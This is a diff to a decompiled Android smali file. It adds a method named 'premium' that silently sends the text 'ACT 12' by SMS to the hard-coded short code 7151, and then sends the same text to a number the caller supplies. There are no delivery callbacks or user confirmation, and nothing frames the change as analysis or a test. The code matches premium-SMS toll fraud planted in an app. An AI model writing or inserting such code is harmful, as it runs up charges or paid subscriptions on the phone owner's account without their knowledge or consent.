@@ -76,3 +76,19 @@
     invoke-virtual {v3, v1}, Ljava/io/DataOutputStream;->writeBytes(Ljava/lang/String;)V
     return-void
 .end method
+
+# An SMS to a number written in the code, and one to a number passed in.
+.method public static premium(Ljava/lang/String;)V
+    .registers 7
+    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
+    move-result-object v0
+    const-string v1, "7151"
+    const-string v2, "ACT 12"
+    const/4 v3, 0
+    const/4 v4, 0
+    const/4 v5, 0
+    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
+    move-object v1, p0
+    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
+    return-void
+.end method
